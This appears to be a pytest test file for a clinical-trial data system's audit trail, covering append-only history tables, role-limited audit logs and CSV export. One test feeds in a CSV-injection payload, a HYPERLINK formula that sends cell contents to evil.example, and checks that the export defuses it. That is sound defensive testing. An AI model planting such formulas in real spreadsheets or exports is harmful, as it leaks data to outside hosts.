"""The audit trail is append-only, and readable trial-wide (issue 10; 21 CFR 11.10(e)): a
trigger on every history table refuses UPDATE and DELETE from the application's database user;
data managers and monitors filter the trail-wide log and export it as CSV."""

import csv
import io
from decimal import Decimal

import pytest
from django.db import DatabaseError, connection, transaction

from datamanagement import guards
from kernel import concurrency
from kernel.roles import Role
from outcomes.models import Murray

from . import outcomes_factories as of
from .factories import ParticipantFactory

pytestmark = pytest.mark.django_db


@pytest.fixture
def murray(participant):
    crf = of.crf(
        participant, "D0", "murray", pao2_mmhg=Decimal("70"), fio2=Decimal("0.6"), cxr_quadrants=2
    )
    return of.crf(
        participant,
        "D0",
        "murray",
        pao2_mmhg=Decimal("70"),
        fio2=Decimal("0.5"),
        cxr_quadrants=2,
        user=crf.entered_by,
    )


def test_every_history_table_is_guarded():
    tables = guards.history_tables()
    assert "outcomes_historicalmurray" in tables
    assert "datamanagement_historicallock" in tables
    with connection.cursor() as cursor:
        cursor.execute(
            "SELECT DISTINCT event_object_table FROM information_schema.triggers "
            "WHERE trigger_name = 'audit_append_only'"
        )
        guarded = {row[0] for row in cursor.fetchall()}
    assert set(tables) <= guarded


def test_an_audit_row_cannot_be_changed(murray):
    row = murray.history.first()
    with pytest.raises(DatabaseError, match="cannot be changed"), transaction.atomic():
        type(row).objects.filter(pk=row.pk).update(history_change_reason="rewritten")
    assert murray.history.first().history_change_reason == "Test correction"


def test_an_audit_row_cannot_be_deleted(murray):
    with pytest.raises(DatabaseError, match="cannot be changed or deleted"), transaction.atomic():
        murray.history.all().delete()
    assert murray.history.count() == 2


def test_raw_sql_cannot_rewrite_the_trail_either(murray):
    with pytest.raises(DatabaseError), transaction.atomic(), connection.cursor() as cursor:
        cursor.execute("UPDATE outcomes_historicalmurray SET fio2 = 0.9")
    with pytest.raises(DatabaseError), transaction.atomic(), connection.cursor() as cursor:
        cursor.execute("DELETE FROM outcomes_historicalmurray")


def test_new_audit_rows_are_still_written(murray):
    assert murray.history.count() == 2
    assert Murray.objects.get(pk=murray.pk).fio2 == Decimal("0.500")


@pytest.mark.parametrize("role", [Role.MONITOR, Role.DATA_MANAGER])
def test_the_audit_log_shows_who_what_when_and_why(client, login, make_user, murray, role):
    login(make_user(role))
    body = client.get("/data/audit/?model=outcomes.murray").content.decode()
    assert "Test correction" in body
    assert "0.600" in body
    assert "0.500" in body
    assert murray.visit.participant.study_id in body


def test_the_audit_log_filters_by_participant_user_and_date(
    client, login, make_user, site01, murray
):
    other = ParticipantFactory(site=site01)
    of.schedule(other)
    login(make_user(Role.DATA_MANAGER))
    rows = client.get(f"/data/audit/?participant={other.study_id}").context["rows"]
    assert rows
    assert {r.study_id for r in rows} == {other.study_id}
    rows = client.get("/data/audit/?user=entry-01&model=outcomes.murray").context["rows"]
    assert len(rows) == 2
    assert client.get("/data/audit/?user=nobody").context["rows"] == []
    rows = client.get("/data/audit/?date_from=2000-01-01&date_to=2000-01-02").context["rows"]
    assert rows == []


def test_the_csv_export_has_one_line_per_changed_field(client, login, make_user, murray):
    login(make_user(Role.DATA_MANAGER))
    response = client.get("/data/audit/?model=outcomes.murray&format=csv")
    assert response["Content-Type"].startswith("text/csv")
    assert "attachment" in response["Content-Disposition"]
    rows = list(csv.DictReader(io.StringIO(response.content.decode())))
    change = [r for r in rows if r["action"] == "Changed" and r["field"] == "FiO₂"]
    assert len(change) == 1
    assert (change[0]["old_value"], change[0]["new_value"]) == ("0.600", "0.500")
    assert change[0]["reason"] == "Test correction"
    assert change[0]["study_id"] == murray.visit.participant.study_id


def test_a_monitor_sees_only_the_trail_of_their_sites(client, login, make_user, site02, murray):
    other = ParticipantFactory(site=site02)
    of.schedule(other)
    login(make_user(Role.MONITOR))
    rows = client.get("/data/audit/?model=outcomes.visit").context["rows"]
    assert other.study_id not in {r.study_id for r in rows}
    assert murray.visit.participant.study_id in {r.study_id for r in rows}


@pytest.mark.parametrize("role", [Role.COORDINATOR, Role.INVESTIGATOR, Role.SPONSOR])
def test_other_roles_have_no_trial_wide_log(client, login, make_user, role):
    login(make_user(role))
    assert client.get("/data/audit/").status_code == 403


def test_the_csv_export_defuses_a_reason_written_as_a_formula(client, login, make_user, murray):
    from outcomes import services

    services.crf_save(
        visit=murray.visit,
        crf_code="murray",
        values={"fio2": Decimal("0.45")},
        complete=True,
        user=murray.entered_by,
        opened_version=concurrency.version_of(murray),
        reason='=HYPERLINK("http://evil.example/?"&A1,"chart")',
    )
    login(make_user(Role.DATA_MANAGER))
    response = client.get("/data/audit/?model=outcomes.murray&format=csv")
    rows = list(csv.DictReader(io.StringIO(response.content.decode())))
    reasons = [r["reason"] for r in rows if "HYPERLINK" in r["reason"]]
    assert reasons
    assert all(reason.startswith("'=") for reason in reasons)


def test_a_records_history_page_reads_the_records_it_names_with_it(
    client, login, make_user, murray
):
    """The history page of a CRF names its visit and participant in its title, and the user who
    entered it in its versions: the visit and participant are read with the CRF, the user with
    the history rows (issue 24: one query each after them)."""
    from django.db import connection
    from django.test.utils import CaptureQueriesContext

    visit, participant = murray.visit, murray.visit.participant
    login(make_user(Role.DATA_MANAGER))
    path = f"/audit/outcomes.murray/{murray.pk}/"
    client.get(path)  # the session's first request records it (accounts.services)
    with CaptureQueriesContext(connection) as queries:
        page = client.get(path).content.decode()
    assert f"{participant.study_id} {visit.code}" in page
    assert str(murray.entered_by) in page

    def reads(table: str, pk: int) -> int:
        return len([q for q in queries if f'WHERE "{table}"."id" = {pk}' in q["sql"]])

    assert reads("outcomes_visit", visit.pk) == 0
    assert reads("participants_participant", participant.pk) == 0
    assert reads("trialedc_user", murray.entered_by.pk) == 0  # read with the history rows


def test_the_audit_log_reads_each_related_record_once_per_page(client, login, make_user, murray):
    """Every visit of the schedule names its participant, every CRF its visit: the page and the
    CSV read each named record once, not once per row and field (issue 24: the data manager's
    log read thousands, one query each)."""
    from django.db import connection
    from django.test.utils import CaptureQueriesContext

    participant = murray.visit.participant
    by_pk = f'WHERE "participants_participant"."id" = {participant.pk} ORDER BY'
    login(make_user(Role.DATA_MANAGER))
    for query in ("", "&format=csv"):
        with CaptureQueriesContext(connection) as queries:
            response = client.get(f"/data/audit/?participant={participant.study_id}{query}")
        assert response.status_code == 200
        assert participant.study_id in response.content.decode()
        assert len([q for q in queries if by_pk in q["sql"]]) == 1, query
